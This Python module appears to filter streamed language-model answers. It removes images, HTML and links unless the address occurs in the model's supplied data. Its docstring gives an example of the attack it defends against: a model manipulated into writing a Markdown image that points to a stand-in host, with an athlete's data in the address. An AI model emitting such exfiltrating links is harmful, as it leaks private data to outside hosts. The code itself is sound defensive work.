"""Answers without images, HTML and links: nothing in an answer makes a reader's browser call another host.

A model may have been talked into writing `![](https://elsewhere.example/?q=...)`, with what it knows of an
athlete in the address. What would load by itself is taken apart wherever it points to; an address stays only
if the same one stood in the data that the model was given. It works on a stream: what may be the beginning
of an address is held back until its end has come.
"""

import re
from collections.abc import Collection

REMOVED = "[link removed]"

#: An address with a scheme, or one that Markdown makes a link of without one. Schemes are shorter than that:
#: were there no limit, each letter of a long word would be gone through for each.
_ADDRESS = re.compile(
    r"(?i)(?:[a-z][a-z0-9+.\-]{0,40}:[/\\]{2}|(?<![a-z])(?:mailto|xmpp|tel|sms):(?=\S)|(?<![a-z0-9])www\.)"
    r"[^\s<>\"'`|]*"
)
#: What stands at an end, and belongs to the sentence.
_TRAILING = ".,;:!?)]}*_"

#: Longest piece without a space that is held back. Addresses of people's are shorter.
_LONGEST = 4_096


class Neutraliser:
    """Takes an answer in pieces, and gives it without what is not to be there.

    Args:
        allowed: addresses that may stay, exactly as they stand.
    """

    def __init__(self, allowed: Collection[str] = ()) -> None:
        self._allowed = frozenset(allowed)
        self._held = ""

    def take(self, text: str) -> str:
        """As much as can be told by now."""
        held = self._held + text
        # The last word may go on, and so may `](`, `![` and the like, which hold no space.
        cut = max(held.rfind(" "), held.rfind("\n")) + 1
        if len(held) - cut > _LONGEST:
            held += " "  # so that what comes does not make an address of what has been told
            cut = len(held)
        ready, self._held = held[:cut], held[cut:]
        return neutralised(ready, self._allowed)

    def end(self) -> str:
        """What is left."""
        ready, self._held = self._held, ""
        return neutralised(ready, self._allowed)


def neutralised(text: str, allowed: Collection[str] = ()) -> str:
    """A whole text without images, HTML and links."""
    text = _ADDRESS.sub(lambda found: _address(found[0], allowed), text)
    text = text.replace("![", "[").replace("](", "] (").replace("][", "] [").replace("]:", "] :")
    return re.sub(r"<(?=[A-Za-z/!?])", "< ", text)


def addresses_in(text: str) -> set[str]:
    """The addresses that stand in a text: those that an answer to it may name."""
    return {found[0].rstrip(_TRAILING) for found in _ADDRESS.finditer(text)}


def _address(found: str, allowed: Collection[str]) -> str:
    address = found.rstrip(_TRAILING)
    return found if address in allowed else REMOVED + found[len(address) :]
